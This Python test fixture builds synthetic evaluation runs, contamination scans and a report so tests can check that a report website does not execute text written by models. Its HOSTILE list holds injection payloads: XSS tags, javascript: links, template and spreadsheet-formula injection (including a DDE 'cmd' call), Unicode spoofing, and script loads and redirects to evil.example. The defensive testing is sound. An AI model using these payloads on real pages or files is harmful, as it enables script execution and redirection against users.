"""Runs made for the tests of the site: two models on a task, with what a page must show and must not obey."""

from collections.abc import Sequence
from pathlib import Path

import msgspec

from rarl_eval.report.build import build_report
from rarl_eval.report.write import write_report
from rarl_eval.runs import store
from rarl_eval.runs.writer import Writer
from rarl_eval.types import Benchmark, Item, Record, Reward, Source, Task, Tokens, Trace, Verdict

HOSTILE = [
    "<script>document.title = 'taken'</script>", "<img src=x onerror=\"document.title='taken'\">",
    '"><svg/onload=alert(1)>', "' onmouseover='alert(1)' x='", "[go](javascript:alert(1))", "javascript:alert(1)//",
    "{{ 7*7 }}{% raw %}", "${7*7} #{7*7} <%= 7*7 %>", "abc\u202egnp.exe\u202c", "\u2066a\u2067b\u2069", "zero\u200bwidth\ufeff",
    '=HYPERLINK("http://evil.example","x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "</pre></details><h1>out</h1>",
    "</script><script src=//evil.example/x.js></script>", "<!-- comment", "--><b>x", "]]><x>", "\x00nul\x07bell\x1b[31m",
    "a" + "\u0301" * 500, "x" * 300_000, "line\r\nbreak\u2028sep\u2029par", "<style>body{display:none}</style>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "&lt;b&gt;&#x3c;script&#x3e;",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>', "<form action=//evil.example><input autofocus onfocus=alert(1)>",
]  # fmt: skip
"""What a model may write to become more than text."""


def items(n: int, texts: Sequence[str] = ()) -> list[Item]:
    """Questions with distinct ids; ``texts`` go into the first of them."""
    return [
        Item(id=f"q{i:02d}", question=f"What is {i} plus {i}? {texts[i] if i < len(texts) else ''}", gold=str(2 * i))
        for i in range(n)
    ]


def record(item: Item, model: str, *, right: bool, text: str = "", sample: int = 0, long: int = 0) -> Record:
    """One answer with reasoning, a verdict and a reward."""
    said = item.gold if right else str(int(item.gold) + 1)
    trace = Trace(
        key=item.key, task="made", item_id=item.id, model=model, sample=sample, text=f"{text} so {said}",
        reasoning=f"I think {text}" + "word " * long, answer=f"{text} so {said}", stop="end", seed=7,
        tokens=Tokens(reasoning=11, answer=4, completion=15, counted_by="server"),
    )  # fmt: skip
    verdict = Verdict(
        status="correct" if right else "incorrect", extracted=f"{said} {text}"[:400], reason=f"last number {text}"[:400]
    )
    return Record(trace=trace, verdict=verdict, rewards=(Reward(name="judge", judge="generative", score=float(right)),))


def task() -> Task:
    """A task that only these runs know."""
    return Task(
        name="made", domain="math", item=lambda _: None, verify=lambda _, __: Verdict(status="correct"), prompt=lambda _: [],
        paper="https://example.org", source=Source(path="local", split="test", licence="MIT", released="2024-01-01"),
    )  # fmt: skip


def write_run(path: Path, asked: Sequence[Item], records: Sequence[Record]) -> Path:
    """Write a run directory."""
    benchmark = Benchmark(task=task(), items=tuple(asked), origin="made", revision=None, fingerprint="f")
    manifest = {
        "kind": "score", "synthetic": False, "started": "2026-01-02T03:04:05+00:00", "finished": "2026-01-02T04:04:05+00:00",
        "tasks": {"made": {"domain": "math", "version": 1, "fingerprint": "f", "origin": "made"}},
    }  # fmt: skip
    store.create(path, manifest, [benchmark])
    with Writer(path) as writer:
        for one in records:
            writer.add(one)
    return path


def write_scan(path: Path, asked: Sequence[Item], text: str = "") -> Path:
    """Write a scan that found the first half of the items."""
    path.mkdir(parents=True)
    half = len(asked) // 2
    lines = [
        {"key": x.key, "id": x.id, "task": "made", "status": "flagged", "level": "exact", "part": "question", "score": 1.0,
         "document": f"train.jsonl:{i} {text}", "offset": 3, "excerpt": f"before {x.question} after {text}", "answer_beside": True}
        if i < half else {"key": x.key, "id": x.id, "task": "made", "status": "clean"}
        for i, x in enumerate(asked)
    ]  # fmt: skip
    (path / "items.jsonl").write_bytes(b"".join(msgspec.json.encode(line) + b"\n" for line in lines))
    counts = {"n": len(asked), "exact": half, "near": 0, "clean": len(asked) - half}
    corpora = [{"name": f"/data/train.jsonl{text}", "bytes": 10, "documents": 2, "sha256": "ab" * 32}]
    (path / "scan.json").write_bytes(msgspec.json.encode({"schema": 1, "counts": {"made": counts}, "corpora": corpora}))
    return path


def made(
    folder: Path, n: int = 12, texts: Sequence[str] = (), *, long: int = 0, samples: int = 1
) -> dict[str, list[Path]]:
    """Two runs, a scan and their report below ``folder``: ``good`` is right on all, ``poor`` on every third item."""
    asked = items(n, texts)
    runs = []
    for model, every in (("good", 1), ("poor", 3)):
        records = [
            record(x, model, right=i % every == 0, text=texts[i] if i < len(texts) else "", sample=s, long=long)
            for i, x in enumerate(asked)
            for s in range(samples)
        ]
        runs.append(write_run(folder / "runs" / model, asked, records))
    scan = write_scan(folder / "scan", asked, texts[0] if texts else "")
    from rarl_eval.evidence.scans import read_scan

    write_report(build_report([store.read_run(p) for p in runs], [read_scan(scan)], replicates=20), folder / "report")
    return {"reports": [folder / "report"], "runs": runs, "scans": [scan]}
